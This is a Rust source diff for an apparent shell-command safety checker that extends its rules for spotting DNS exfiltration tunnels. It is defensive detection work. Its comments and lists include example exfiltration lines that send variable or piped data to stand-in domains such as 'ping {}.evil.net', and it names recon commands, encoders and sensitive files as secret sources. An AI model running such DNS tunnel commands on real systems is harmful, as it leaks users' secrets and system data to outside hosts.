@@ -3366,9 +3366,17 @@ fn is_http_client(name: &str) -> bool {
 const SUB: char = '\u{1}';
 const NAME_SUB: char = '\u{3}';
 const HOST_SUB: char = '\u{2}';
+/// The `{}` placeholder of `xargs -I{}` (the parser writes it `$(xargs input)`): its data is
+/// what the line pipes into `xargs`, judged by [`carried_host_refs`] and the line rules.
+const XARGS_SUB: char = '\u{4}';
+/// A shell variable (`$l`, `${l}`) in a host-name skeleton.
+const VAR_SUB: char = '\u{5}';
 
 /// What a substitution's code prints, as one of the marks above.
 fn substitution_mark(inner: &str) -> char {
+    if inner == "xargs input" {
+        return XARGS_SUB;
+    }
     let programs: Vec<&str> = inner
         .split(['|', ';', '&', '\n'])
         .filter_map(|seg| {
@@ -3473,7 +3481,11 @@ fn substitution_skeleton(word: &str) -> Option<String> {
 /// is in it, `Some(false)` when only names from build and cloud tools are.
 fn exfil_host(host: &str) -> Option<bool> {
     let label_char = |ch: char| {
-        ch.is_ascii_alphanumeric() || matches!(ch, '-' | '_' | SUB | NAME_SUB | HOST_SUB)
+        ch.is_ascii_alphanumeric()
+            || matches!(
+                ch,
+                '-' | '_' | SUB | NAME_SUB | HOST_SUB | XARGS_SUB | VAR_SUB
+            )
     };
     let labels: Vec<&str> = host.split('.').collect();
     let at = labels
@@ -3562,16 +3574,9 @@ fn exfil_dns_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
         let Some(skel) = substitution_skeleton(&w.text) else {
             continue;
         };
-        let (url, host) = match skel.split_once("://") {
-            Some((_, rest)) => (true, rest),
-            None => (false, skel.trim_start_matches('@')),
-        };
-        let host = host.split(['/', '?', '#', ' ']).next().unwrap_or("");
-        let host = host.rsplit('@').next().unwrap_or(host);
-        let host = host.split(':').next().unwrap_or(host);
-        if http && !url && host.rsplit('.').next().is_some_and(file_extension) {
+        let Some(host) = skeleton_host(&skel, http) else {
             continue;
-        }
+        };
         match exfil_host(host) {
             Some(true) => {
                 j.deny(
@@ -3588,6 +3593,154 @@ fn exfil_dns_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
             ),
             None => {}
         }
+    }
+}
+
+/// The host part of a network client's argument skeleton (`user@host:port/path` -> `host`);
+/// `None` for an HTTP client's bare file name (`$(date +%F).tar.gz`).
+fn skeleton_host(skel: &str, http: bool) -> Option<&str> {
+    let (url, host) = match skel.split_once("://") {
+        Some((_, rest)) => (true, rest),
+        None => (false, skel.trim_start_matches('@')),
+    };
+    let host = host.split(['/', '?', '#', ' ']).next().unwrap_or("");
+    let host = host.rsplit('@').next().unwrap_or(host);
+    let host = host.split(':').next().unwrap_or(host);
+    if http && !url && host.rsplit('.').next().is_some_and(file_extension) {
+        return None;
+    }
+    Some(host)
+}
+
+/// The variables (`$l`, `${l}`; `{}` for the `xargs -I{}` placeholder) that a network client
+/// joins to a domain in a host name (`nslookup $l.t.example.net`, `ping {}.evil.net`): looking
+/// the name up sends the variable's value to that domain's name server. Where the value comes
+/// from is the line's business ([`carried_data`]).
+pub(crate) fn carried_host_refs(c: &SimpleCommand, name: &str) -> Vec<String> {
+    let http = is_http_client(name);
+    let mut refs = Vec::new();
+    for w in c.argv.iter().skip(1).filter(|w| w.dynamic) {
+        if w.text.starts_with('-') || w.text.starts_with('+') || !w.text.contains('$') {
+            continue;
+        }
+        let Some(skel) = substitution_skeleton(&w.text) else {
+            continue;
+        };
+        let mut out = String::with_capacity(skel.len());
+        let mut names = Vec::new();
+        let mut rest = skel.as_str();
+        while let Some(at) = rest.find('$') {
+            out.push_str(rest.get(..at).unwrap_or(""));
+            let after = rest.get(at + 1..).unwrap_or("");
+            let (braced, body) = match after.strip_prefix('{') {
+                Some(b) => (true, b),
+                None => (false, after),
+            };
+            let len = body
+                .char_indices()
+                .find(|&(k, ch)| {
+                    !(ch == '_' || ch.is_ascii_alphabetic() || (k > 0 && ch.is_ascii_digit()))
+                })
+                .map_or(body.len(), |(k, _)| k);
+            let closed = !braced || body.get(len..).is_some_and(|r| r.starts_with('}'));
+            if len == 0 || !closed {
+                out.push('$');
+                rest = after;
+                continue;
+            }
+            names.push(body.get(..len).unwrap_or("").to_owned());
+            out.push(VAR_SUB);
+            rest = body.get(len + usize::from(braced)..).unwrap_or("");
+        }
+        out.push_str(rest);
+        if out.contains(XARGS_SUB) {
+            names.push("{}".to_owned());
+        }
+        let Some(host) = skeleton_host(&out, http) else {
+            continue;
+        };
+        let labels: Vec<&str> = host.split('.').collect();
+        let Some(at) = labels
+            .iter()
+            .position(|l| l.contains(VAR_SUB) || l.contains(XARGS_SUB))
+        else {
+            continue;
+        };
+        let tail = labels.get(at..).unwrap_or_default();
+        let tld = labels.last().copied().unwrap_or("");
+        let label_char = |ch: char| {
+            ch.is_ascii_alphanumeric()
+                || matches!(
+                    ch,
+                    '-' | '_' | SUB | NAME_SUB | HOST_SUB | XARGS_SUB | VAR_SUB
+                )
+        };
+        if tail.len() >= 2
+            && tail
+                .iter()
+                .all(|l| !l.is_empty() && l.chars().all(label_char))
+            && tld.len() >= 2
+            && tld.chars().all(|ch| ch.is_ascii_alphabetic())
+        {
+            refs.extend(names);
+        }
+    }
+    refs
+}
+
+/// What a command that feeds a variable or an `xargs` placeholder produces: its
+/// [`fed_data_class`], whether it is strong evidence of a tunnel on its own — a secret (or the
+/// whole environment, or the user's identity) read, the password and group databases — and
+/// whether it is an encoder (`base64`, `xxd`) that turns data into name-safe labels.
+pub(crate) fn carried_data(c: &SimpleCommand) -> (u8, bool, bool) {
+    let name = c.static_name().unwrap_or("");
+    let encoder = matches!(
+        name,
+        "base64" | "base32" | "basenc" | "xxd" | "od" | "hexdump" | "hd"
+    );
+    let file = match &c.stdin {
+        Source::File(w) => Some(w.text.as_str()),
+        _ => None,
+    };
+    let (file_class, file_secret) = file.map_or((0, false), carried_file);
+    let env_dump =
+        matches!(name, "env" | "printenv" | "set" | "export" | "declare") && c.argv.len() <= 1;
+    // What `$(whoami).x.example.net` is denied for at the command level: who and where.
+    let recon = matches!(
+        name,
+        "whoami" | "id" | "uname" | "history" | "ps" | "printenv"
+    );
+    let secret = env_dump
+        || recon
+        || c.args()
+            .chain(
+                c.redirects
+                    .iter()
+                    .filter(|r| r.op.reads())
+                    .map(|r| r.target.text.as_str()),
+            )
+            .any(|t| {
+                let t = t
+                    .split_once('=')
+                    .filter(|(k, _)| k.starts_with('-') || *k == "if")
+                    .map_or(t, |(_, v)| v);
+                !t.starts_with('-') && upload_secret(t)
+            });
+    let class = if secret { 2 } else { fed_data_class(c) };
+    (class.max(file_class), secret || file_secret, encoder)
+}
+
+/// [`carried_data`] of a file given as standard input (`xargs -I{} dig {}.x.io < FILE`).
+pub(crate) fn carried_file(f: &str) -> (u8, bool) {
+    if upload_secret(f) {
+        return (2, true);
+    }
+    let n = paths::normalize(f);
+    let under = |d: &str| n == d || n.strip_prefix(d).is_some_and(|r| r.starts_with('/'));
+    if under("/etc") || under("/proc") || under("/root") {
+        (2, false)
+    } else {
+        (u8::from(paths::outside_project(f)), false)
     }
 }
 
